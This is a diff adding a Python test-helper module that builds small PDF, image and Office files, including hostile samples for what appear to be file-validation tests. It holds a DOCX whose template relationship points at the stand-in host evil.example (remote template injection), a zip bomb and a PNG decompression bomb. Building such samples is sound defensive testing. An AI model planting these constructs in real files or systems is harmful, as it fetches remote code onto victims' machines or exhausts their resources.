@@ -1,0 +1,176 @@
+"""Real, minimal files built in the tests: no binary fixtures in the repository."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+
+import pillow_heif
+from PIL import Image
+
+pillow_heif.register_heif_opener()  # lets tests write HEIC photos
+
+WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+RELS = "application/vnd.openxmlformats-package.relationships+xml"
+OFFICE_DOCUMENT = ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+                   "officeDocument")
+
+
+def pdf(body: bytes = b"", *, trailer_extra: bytes = b"") -> bytes:
+    """A small valid PDF with one page; ``body`` adds objects (numbered from 4)."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+    ]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, obj in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
+    out.write(body)
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
+              % (len(objects) + 1, trailer_extra, xref))
+    return out.getvalue()
+
+
+def pdf_stream_object(number: int, dictionary: bytes, data: bytes) -> bytes:
+    return (b"%d 0 obj\n<< %s /Length %d >>\nstream\n" % (number, dictionary, len(data))
+            + data + b"\nendstream\nendobj\n")
+
+
+def pdf_with_object_stream(hidden: bytes) -> bytes:
+    """A PDF whose object 5 lives compressed in an object stream (as PDF 1.5+ writers do)."""
+    header = b"5 0 "
+    data = zlib.compress(header + hidden)
+    stream = pdf_stream_object(
+        4, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), data)
+    return pdf(stream)
+
+
+def image(kind: str, size: tuple[int, int] = (64, 48), *, mode: str = "RGB",
+          colour=(200, 30, 30), **save) -> bytes:
+    out = io.BytesIO()
+    Image.new(mode, size, colour).save(out, format=kind, **save)
+    return out.getvalue()
+
+
+def png(**save) -> bytes:
+    return image("PNG", **save)
+
+
+def jpeg(**save) -> bytes:
+    return image("JPEG", **save)
+
+
+def _content_types(main_part: str, main_type: str, extra: str = "") -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        f'<Default Extension="rels" ContentType="{RELS}"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
+    )
+
+
+def _root_rels(main_part: str) -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="{main_part}"/>'
+        '</Relationships>'
+    )
+
+
+def ooxml(parts: dict[str, str | bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def docx_parts(main_type: str = WORD_MAIN) -> dict[str, str | bytes]:
+    return {
+        "[Content_Types].xml": _content_types("word/document.xml", main_type),
+        "_rels/.rels": _root_rels("word/document.xml"),
+        "word/document.xml": (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+            "<w:body><w:p><w:r><w:t>Fire risk assessment</w:t></w:r></w:p></w:body>"
+            "</w:document>"),
+    }
+
+
+def docx(**extra: str | bytes) -> bytes:
+    return ooxml({**docx_parts(), **extra})
+
+
+def xlsx() -> bytes:
+    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+    return ooxml({
+        "[Content_Types].xml": _content_types(
+            "xl/workbook.xml", EXCEL_MAIN,
+            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet_type}"/>'),
+        "_rels/.rels": _root_rels("xl/workbook.xml"),
+        "xl/workbook.xml": (
+            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+            '<sheets><sheet name="Staff" sheetId="1" r:id="rId1"/></sheets></workbook>'),
+        "xl/_rels/workbook.xml.rels": (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'),
+        "xl/worksheets/sheet1.xml": (
+            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>DBS</t></is></c></row>'
+            "</sheetData></worksheet>"),
+    })
+
+
+def docm() -> bytes:
+    return ooxml({**docx_parts(WORD_MACRO_MAIN), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})
+
+
+def template_injection_docx() -> bytes:
+    return docx(**{"word/_rels/settings.xml.rels": (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+        'TargetMode="External"/></Relationships>')})
+
+
+def write_zip_bomb(path, megabytes: int = 200) -> None:
+    """A DOCX-shaped zip with one member of ``megabytes`` MB of zeros (about 0.1% of that
+    on disk), written in 1 MB pieces so it never sits in memory."""
+    zeros = bytes(1024 * 1024)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, data in docx_parts().items():
+            archive.writestr(name, data)
+        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
+            for _ in range(megabytes):
+                member.write(zeros)
+
+
+def huge_png(width: int, height: int) -> bytes:
+    """A valid 1-bit PNG of ``width`` x ``height`` pixels that is tiny on disk: a
+    decompression bomb. Built chunk by chunk so the pixels never exist in memory."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (struct.pack(">I", len(data)) + kind + data
+                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
+
+    row = bytes(1 + (width + 7) // 8)  # filter byte + packed bits
+    compressor = zlib.compressobj(9)
+    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat)
+            + chunk(b"IEND", b""))
